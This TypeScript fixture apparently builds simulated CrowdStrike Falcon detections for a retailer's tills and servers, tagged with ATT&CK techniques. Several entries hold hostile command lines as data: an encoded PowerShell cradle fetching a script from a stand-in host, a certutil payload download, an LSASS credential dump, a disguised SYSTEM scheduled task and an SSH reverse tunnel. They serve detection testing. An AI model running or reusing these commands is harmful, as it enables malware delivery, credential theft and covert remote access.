import type { FalconHost, FalconStory } from './crowdstrike-bodies.ts';

/** What PowerShell takes behind `-EncodedCommand`. */
export const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

const SHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const EXPLORER = ['explorer.exe', 'C:\\Windows\\explorer.exe'] as const;
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-invoice.example.net/a.ps1')";

/** What happens on the hosts of a retailer, the malicious and the usual. */
export const FALCON_STORIES = {
  encodedPowershell: {
    ...{ name: 'EncodedPowershell', description: 'A PowerShell process ran an encoded command.', severity: 70 },
    ...{ tactic: ['TA0002', 'Execution'], technique: ['T1059.001', 'PowerShell'], filename: 'powershell.exe' },
    cmdline: `"${SHELL}" -nop -w hidden -EncodedCommand ${encoded(CRADLE)}`,
    parent: ['winword.exe', '"C:\\Program Files\\Microsoft Office\\winword.exe" "C:\\Users\\Public\\invoice.docm"'],
    ...{ grandparent: EXPLORER, domain: 'cdn-invoice.example.net', remote: { address: '203.0.113.77', port: 80 } },
  },
  certutilDownload: {
    ...{ name: 'CertutilDownload', description: 'Certutil fetched a file from the internet.', severity: 60 },
    tactic: ['TA0011', 'Command and Control'],
    ...{ technique: ['T1105', 'Ingress Tool Transfer'], filename: 'certutil.exe' },
    cmdline: 'certutil.exe -urlcache -split -f http://203.0.113.90/update.bin C:\\ProgramData\\update.exe',
    parent: ['cmd.exe', 'cmd.exe /c c^er^tu^til -urlcache -split -f http://203.0.113.90/update.bin'],
    ...{ grandparent: EXPLORER, remote: { address: '203.0.113.90', port: 80 } },
  },
  credentialDumping: {
    ...{ name: 'LsassDump', description: 'The memory of LSASS was written to a file.', severity: 90 },
    tactic: ['TA0006', 'Credential Access'],
    ...{ technique: ['T1003.001', 'LSASS Memory'], filename: 'rundll32.exe' },
    cmdline: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\l.dmp full',
    parent: ['powershell.exe', `"${SHELL}" -ep bypass -File C:\\Users\\Public\\s.ps1`],
    ...{ grandparent: ['services.exe', 'C:\\Windows\\System32\\services.exe'] },
    disposition: 'Prevention, process killed.',
  },
  persistence: {
    ...{ name: 'ScheduledTaskPersistence', description: 'A task that starts a hidden script was made.', severity: 50 },
    tactic: ['TA0003', 'Persistence'],
    ...{ technique: ['T1053.005', 'Scheduled Task'], filename: 'schtasks.exe' },
    cmdline: 'schtasks /create /sc minute /mo 15 /tn "OneDrive Sync" /tr "wscript C:\\ProgramData\\o.vbs" /ru SYSTEM',
    ...{ parent: ['cmd.exe', 'C:\\Windows\\System32\\cmd.exe'], grandparent: EXPLORER },
  },
  tunnel: {
    ...{ name: 'ReverseTunnel', description: 'An SSH client opened a tunnel to an unknown host.', severity: 60 },
    tactic: ['TA0011', 'Command and Control'],
    ...{ technique: ['T1572', 'Protocol Tunneling'], filename: 'ssh.exe' },
    cmdline: 'ssh.exe -N -R 13389:127.0.0.1:3389 ops@relay.example.org',
    ...{ parent: ['cmd.exe', 'cmd.exe'], grandparent: EXPLORER, domain: 'relay.example.org' },
  },
  inventoryScript: {
    ...{ name: 'SuspiciousScript', description: 'A script ran with its policy bypassed.', severity: 20 },
    ...{ tactic: ['TA0002', 'Execution'], technique: ['T1059.001', 'PowerShell'], filename: 'powershell.exe' },
    cmdline: 'powershell.exe -ExecutionPolicy Bypass -File "C:\\ProgramData\\ShopIT\\Inventory\\Collect-Inventory.ps1"',
    parent: ['ccmexec.exe', 'C:\\Windows\\CCM\\CcmExec.exe'],
    grandparent: ['services.exe', 'C:\\Windows\\System32\\services.exe'],
  },
  priceUpdate: {
    ...{ name: 'RobocopyBulk', description: 'Many files were copied from a share.', severity: 10 },
    tactic: ['TA0009', 'Collection'],
    ...{ technique: ['T1039', 'Data from Network Shared Drive'], filename: 'robocopy.exe' },
    cmdline: 'robocopy \\\\prices.shop.example\\feed D:\\POS\\prices /MIR /R:2',
    parent: ['taskeng.exe', 'taskeng.exe {PriceUpdate}'],
    grandparent: ['svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k netsvcs'],
  },
} as const satisfies Record<string, FalconStory>;
export type FalconStoryName = keyof typeof FALCON_STORIES;
export const FALCON_STORY_NAMES = Object.keys(FALCON_STORIES) as FalconStoryName[];

const STORES = ['Milano-12', 'Lyon-03', 'Gdańsk-07', 'Porto-01', 'Leeds-22'];
const USERS = ['mrossi', 'jdupont', 'anowak', 'psilva', 'kwalker'];

/** The n-th host: a till, a back office's computer, or a server of the head office. */
export function falconHost(n: number): FalconHost {
  const kind = ['POS', 'BO', 'SRV'][n % 3]!;
  return {
    n,
    hostname: `${kind}-${String(n).padStart(4, '0')}`,
    site: STORES[n % STORES.length]!,
    user: USERS[n % USERS.length]!,
  };
}
